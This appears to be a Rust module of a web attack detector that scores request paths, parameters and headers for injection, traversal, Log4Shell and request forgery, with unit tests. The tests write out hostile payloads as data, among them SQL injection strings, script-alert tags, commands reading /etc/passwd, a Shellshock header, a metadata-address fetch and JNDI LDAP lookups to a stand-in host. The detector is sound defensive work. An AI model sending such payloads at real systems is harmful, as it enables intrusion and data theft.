//! One request, judged: the scores of its parts are added up by kind, and a request whose score
//! reaches the threshold is an attack (anomaly scoring, as in the OWASP Core Rule Set).

use crate::access::decode::Decoded;
use crate::access::{command, reach, script, sql};
use crate::signs::kind::Kind;
use crate::signs::request::Request;
use crate::signs::scan::cut;

/// From which score on a request is an attack; one certain sign reaches it.
pub const SCORE_MIN: u32 = 5;

/// How many parameters of a request are judged.
pub const PARAMETERS_MAX: usize = 64;

/// The largest value that is judged; of a longer one the beginning is.
pub const VALUE_BYTES_MAX: usize = 2_048;

const KINDS: [Kind; 6] = [
    Kind::Log4Shell,
    Kind::CommandInjection,
    Kind::SqlInjection,
    Kind::PathTraversal,
    Kind::CrossSiteScripting,
    Kind::RequestForgery,
];

/// Judges requests; holds the buffer that values are decoded in.
#[derive(Debug, Default)]
pub(crate) struct Judge {
    value: Decoded,
}

/// Where a value stands.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Place<'a> {
    Path,
    Parameter(&'a [u8]),
    Header,
}

impl Judge {
    /// The kind of attack that a request is; none: it is not one.
    pub(crate) fn request(&mut self, request: &Request<'_>) -> Option<Kind> {
        let mut scores = [0; KINDS.len()];
        let target = request.target;
        let (path, query) = cut(target, b'?').unwrap_or((target, b""));
        if path.iter().any(|byte| is_suspect(*byte)) || has_climb(path) {
            self.value(path, Place::Path, &mut scores);
        }
        if !query.is_empty() {
            for pair in query.split(|byte| *byte == b'&').take(PARAMETERS_MAX) {
                let (name, value) = cut(pair, b'=').unwrap_or((b"", pair));
                if value.iter().any(|byte| is_odd(*byte)) {
                    self.value(value, Place::Parameter(name), &mut scores);
                }
                if name.iter().any(|byte| is_suspect(*byte)) {
                    self.value(name, Place::Parameter(b""), &mut scores);
                }
            }
        }
        for header in [request.agent, request.referer] {
            if memchr::memchr3(b'$', b'\'', b'<', header).is_some()
                || memchr::memchr2(b'{', b'`', header).is_some()
            {
                self.value(header, Place::Header, &mut scores);
            }
        }
        let total: u32 = scores.iter().sum();
        let most = scores.iter().zip(KINDS).rev().max_by_key(|(score, _)| **score);
        most.filter(|_| total >= SCORE_MIN).map(|(_, kind)| kind)
    }

    fn value(&mut self, raw: &[u8], place: Place<'_>, scores: &mut [u32; KINDS.len()]) {
        let raw = raw.get(..VALUE_BYTES_MAX).unwrap_or(raw);
        self.value.read(raw);
        let text = &self.value.text;
        let was_encoded = raw.contains(&b'%');
        let [lookup, code, statement, climb, tag, forgery] = scores;
        *lookup += reach::score_lookup(text);
        if place == Place::Header {
            // A browser's name holds brackets and semicolons; only what no browser writes counts.
            if text.starts_with(b"() {") || text.windows(4).any(|part| part == b"<?ph") {
                *code += sql::CERTAIN;
            }
            *tag += script::score(text);
            *statement += sql::score(text);
            return;
        }
        *code += command::score(text);
        *tag += script::score(text);
        // A tag's quotes and a command's semicolons read as broken SQL too: one try, one kind.
        if *tag < SCORE_MIN && *code < SCORE_MIN {
            *statement += sql::score(text);
        }
        *climb += reach::score_traversal(&self.value, place == Place::Path, was_encoded);
        if let Place::Parameter(name) = place {
            *forgery += reach::score_forgery(name, text);
        }
    }
}

/// Bytes of a path or a name that are worth a judgement.
fn is_suspect(byte: u8) -> bool {
    matches!(
        byte,
        b'%' | b'\'' | b'"' | b'<' | b'>' | b'(' | b';' | b'|' | b'`' | b'$' | b'{' | b'\\'
    )
}

/// Bytes of a parameter's value that are worth a judgement.
fn is_odd(byte: u8) -> bool {
    is_suspect(byte) || matches!(byte, b'+' | b'=' | b'/' | b'#' | b'*' | b' ' | b')' | b':')
}

fn has_climb(path: &[u8]) -> bool {
    memchr::memmem::find(path, b"..").is_some()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn judged(target: &str) -> Option<Kind> {
        judged_with(target, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML)")
    }

    fn judged_with(target: &str, agent: &str) -> Option<Kind> {
        let (target, agent) = (target.as_bytes(), agent.as_bytes());
        Judge::default().request(&Request { target, agent, ..Request::default() })
    }

    #[test]
    fn each_kind_of_attack_is_found() {
        let rows = [
            ("/item?id=1%27%20OR%20%271%27=%271", Kind::SqlInjection),
            ("/item?id=-1+UnIoN/**/SeLeCt+1,user(),3", Kind::SqlInjection),
            ("/item?id=1%2527%2520or%25201%253d1--", Kind::SqlInjection),
            ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", Kind::CrossSiteScripting),
            ("/?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", Kind::CrossSiteScripting),
            ("/ping?host=127.0.0.1;cat%20/etc/passwd", Kind::CommandInjection),
            ("/cgi-bin/x?a=$(id)", Kind::CommandInjection),
            ("/download?file=../../../../etc/passwd", Kind::PathTraversal),
            ("/static/..%2f..%2f..%2fetc/passwd", Kind::PathTraversal),
            ("/fetch?url=http://169.254.169.254/latest/", Kind::RequestForgery),
            ("/?x=${jndi:ldap://x.example/a}", Kind::Log4Shell),
            ("/?x=%24%7B%24%7Blower:j%7Dndi:ldap://x/a%7D", Kind::Log4Shell),
        ];
        for (target, kind) in rows {
            assert_eq!(judged(target), Some(kind), "{target}");
        }
        assert_eq!(judged_with("/", "() { :;}; echo x"), Some(Kind::CommandInjection));
        assert_eq!(judged_with("/", "${jndi:ldap://x/a}"), Some(Kind::Log4Shell));
    }

    #[test]
    fn ordinary_requests_are_not_attacks() {
        for target in [
            "/",
            "/search?q=select+shoes+from+our+union+collection",
            "/search?q=o%27reilly+and+associates",
            "/search?q=rock+%27n%27+roll",
            "/?page=2&sort=price:asc&filter=a,b",
            "/a/b?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcb",
            "/img/a%20b%20(1).png",
            "/wiki/C%2B%2B_(programming)",
            "/x?json=%7B%22a%22%3A1%2C%22b%22%3A%22c%22%7D",
            "/x?d=2026-01-01T00:00:00%2B01:00",
            "/x?mail=a%40example.org&name=D%27Angelo",
            "/x;jsessionid=0AB1?y=1",
            "/x?q=%EC%95%88%EB%85%95+%EC%84%B8%EA%B3%84",
            "/x?q=what%27s+new+%26+hot%3F+50%25+off%21",
            "/x?filter=price%3E10+and+price%3C20",
            "/x?q=a+%3C+b",
            "/demo/x.html?iframe=true&width=100%25&height=100%25",
            "/x?utm_source=a&utm_campaign=b%7Cc%7Cd",
            "/x?q=%22exact+phrase%22+or+other",
            "/x?cb=jQuery17(1)&_=1",
        ] {
            assert_eq!(judged(target), None, "{target}");
        }
    }

    #[test]
    fn only_the_beginning_of_a_value_is_judged() {
        let long = "a".repeat(VALUE_BYTES_MAX);
        assert_eq!(judged(&format!("/?id={long}<script>alert(1)</script>")), None);
    }

    #[test]
    fn only_so_many_parameters_are_judged() {
        let many = "a=b&".repeat(PARAMETERS_MAX);
        assert_eq!(judged(&format!("/?{many}id=1+or+1=1--")), None);
    }

    proptest! {
        #[test]
        fn no_target_panics(target in "[ -~]{0,80}") {
            let _ = judged(&target);
        }
    }
}
